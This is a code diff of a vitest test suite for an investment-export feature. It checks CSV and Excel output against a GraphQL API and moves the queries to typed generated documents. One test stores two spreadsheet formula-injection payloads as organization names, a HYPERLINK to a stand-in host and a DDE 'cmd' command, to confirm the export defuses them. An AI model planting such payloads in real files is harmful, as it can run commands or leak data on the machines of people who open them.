@@ -1,11 +1,84 @@
 import { parse } from 'csv-parse/sync';
+import type { TypedDocumentNode } from '@graphql-typed-document-node/core';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadDemoData } from '../../seeds/demo/load-demo.js';
 import { toGlobalId } from '../../server/src/graphql/global-id.js';
+import { graphql } from '../__generated__/gql.js';
+import type { ExportedInvestmentsQuery, InvestmentFilter } from '../__generated__/graphql.js';
 import { signedIn } from '../helpers/access.js';
 import { Factory } from '../helpers/factories.js';
-import { createTestServer, DIALECTS, graphQLBody, type TestServer } from '../helpers/server.js';
+import { createTestServer, DIALECTS, graphQLBody, type GraphQLResponse, type TestServer } from '../helpers/server.js';
+
+const ExportedInvestments = graphql(`
+  query ExportedInvestments($f: InvestmentFilter, $a: String) {
+    investments(filter: $f, first: 100, after: $a) {
+      nodes {
+        id
+        organization {
+          name {
+            en
+          }
+          country
+        }
+        park {
+          name {
+            en
+          }
+        }
+        sector {
+          name {
+            en
+          }
+        }
+        stage
+        amount {
+          amount
+          currency
+          amountUsd
+        }
+        announcedOn
+        expectedJobs
+        verification
+        recordedBy
+        sources {
+          quote
+        }
+      }
+      pageInfo {
+        hasNextPage
+        endCursor
+      }
+    }
+  }
+`);
+
+const ParkId = graphql(`
+  query ExportParkId($s: String!) {
+    park(slug: $s) {
+      id
+    }
+  }
+`);
+
+const CreateOrganization = graphql(`
+  mutation ExportCreateOrganization($i: CreateOrganizationInput!) {
+    createOrganization(input: $i) {
+      id
+    }
+  }
+`);
+
+const CreateInvestment = graphql(`
+  mutation ExportCreateInvestment($i: CreateInvestmentInput!) {
+    createInvestment(input: $i) {
+      id
+    }
+  }
+`);
+
+/** A cell's value as text: strings and numbers as themselves (any other kind of value shows as its JSON). */
+const cellText = (value: ExcelJS.CellValue): string => (typeof value === 'object' ? JSON.stringify(value) : String(value));
 
 describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
   let server: TestServer;
@@ -18,18 +91,13 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
   });
 
   /** Every matching investment from the API, paging through, as the export's row (English) would state it. */
-  async function apiRows(filter: object): Promise<string[][]> {
+  async function apiRows(filter: InvestmentFilter): Promise<string[][]> {
     const rows: string[][] = [];
     let after: string | null = null;
     for (;;) {
-      const res: any = await server.gql(
-        `query($f: InvestmentFilter, $a: String) { investments(filter: $f, first: 100, after: $a) {
-          nodes { id organization { name { en } country } park { name { en } } sector { name { en } } stage
-                  amount { amount currency amountUsd } announcedOn expectedJobs verification recordedBy sources { quote } }
-          pageInfo { hasNextPage endCursor } } }`,
-        { f: filter, a: after },
-      );
+      const res: GraphQLResponse<ExportedInvestmentsQuery> = await server.gql(ExportedInvestments, { f: filter, a: after });
       expect(res.errors, res.body).toBeUndefined();
+      if (!res.data) throw new Error(res.body);
       for (const n of res.data.investments.nodes) {
         rows.push([
           n.id,
@@ -49,22 +117,22 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
         ]);
       }
       if (!res.data.investments.pageInfo.hasNextPage) return rows;
-      after = res.data.investments.pageInfo.endCursor;
+      after = res.data.investments.pageInfo.endCursor ?? null;
     }
   }
-  const apiIds = async (filter: object) => (await apiRows(filter)).map((r) => r[0]);
+  const apiIds = async (filter: InvestmentFilter) => (await apiRows(filter)).map((r) => r[0]);
   /** Decimals compared as numbers ("1500.2500" and "1500.25" are one amount); everything else as text. */
   const same = (row: string[]) => row.map((cell, i) => ([6, 8].includes(i) && cell !== '' ? String(Number(cell)) : cell));
-  const url = (format: string, params: Record<string, string>) => `${server.url}/export/investments.${format}?${new URLSearchParams(params)}`;
+  const url = (format: string, params: Record<string, string>) => `${server.url}/export/investments.${format}?${new URLSearchParams(params).toString()}`;
 
   it('streams exactly the rows the API answers for the same filter and period, with the filter in the file name', async () => {
-    const filter = { stage: { in: ['SIGNED', 'OPERATING'] }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
+    const filter: InvestmentFilter = { stage: { in: ['SIGNED', 'OPERATING'] }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
     const res = await fetch(url('csv', { filter: JSON.stringify(filter), from: '2024-01-01', to: '2025-12-31' }));
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
     expect(res.headers.get('content-disposition')).toContain('investments_2024-01-01_2025-12-31_stage-SIGNED+OPERATING_organization.country-KZ+RU+CN.csv');
     const text = (await res.text()).replace(/^\uFEFF/, '');
-    const [header, ...rows] = parse(text, { relax_column_count: false }) as string[][];
+    const [header, ...rows] = parse(text, { relax_column_count: false });
     expect(header).toEqual([
       'ID',
       'Investor',
@@ -99,7 +167,7 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
   });
 
   it('writes the same rows as an Excel workbook with the filter on its own sheet', async () => {
-    const filter = { sector: { eq: 'LOGISTICS' } };
+    const filter: InvestmentFilter = { sector: { eq: 'LOGISTICS' } };
     const res = await fetch(url('xlsx', { filter: JSON.stringify(filter) }));
     expect(res.status).toBe(200);
     const workbook = new ExcelJS.Workbook();
@@ -107,30 +175,31 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
     const sheet = workbook.worksheets[0];
     const rows: string[][] = [];
     sheet.eachRow((row, n) => {
-      if (n > 1) rows.push(Array.from({ length: 14 }, (_, i) => (row.getCell(i + 1).value == null ? '' : String(row.getCell(i + 1).value))));
+      if (n > 1) rows.push(Array.from({ length: 14 }, (_, i) => (row.getCell(i + 1).value == null ? '' : cellText(row.getCell(i + 1).value))));
     });
     // Column by column, as in the CSV: every cell equals the API's answer (amounts and jobs are number cells).
     expect(rows.map(same)).toEqual((await apiRows(filter)).map(same));
-    expect(String(workbook.worksheets[1].getCell('A1').value)).toContain('LOGISTICS');
+    expect(cellText(workbook.worksheets[1].getCell('A1').value)).toContain('LOGISTICS');
   });
 
   it('neutralises text that a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers numbers', async () => {
     const officer = (await signedIn(server, 'OFFICER', '@Officer')).token;
-    const ok = async (query: string, variables: Record<string, unknown>) => {
-      const res = await server.gql(query, variables, officer);
+    const ok = async <TResult, TVariables>(document: TypedDocumentNode<TResult, TVariables>, variables: TVariables): Promise<TResult> => {
+      const res = await server.gql(document, variables, officer);
       expect(res.errors, res.body).toBeUndefined();
+      if (!res.data) throw new Error(res.body);
       return res.data;
     };
-    const park = (await ok(`query($s: String!) { park(slug: $s) { id } }`, { s: 'sco-energy-valley' })).park.id;
+    const park = (await ok(ParkId, { s: 'sco-energy-valley' })).park?.id ?? '';
     const names = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0"];
     const ids: string[] = [];
     for (const name of names) {
       const org = (
-        await ok(`mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { id } }`, {
+        await ok(CreateOrganization, {
           i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' },
         })
       ).createOrganization.id;
-      const inv = await ok(`mutation($i: CreateInvestmentInput!) { createInvestment(input: $i) { id } }`, {
+      const inv = await ok(CreateInvestment, {
         i: {
           organization: org,
           park,
@@ -189,7 +258,7 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
       [{ filter: 'not json' }, 'filter'],
       [{ from: '2025-02-01', to: '2025-01-01' }, 'from'],
     ] as const) {
-      const res = await fetch(url('csv', params as Record<string, string>));
+      const res = await fetch(url('csv', params));
       expect(res.status, JSON.stringify(params)).toBe(400);
       expect((await graphQLBody(res)).errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
     }
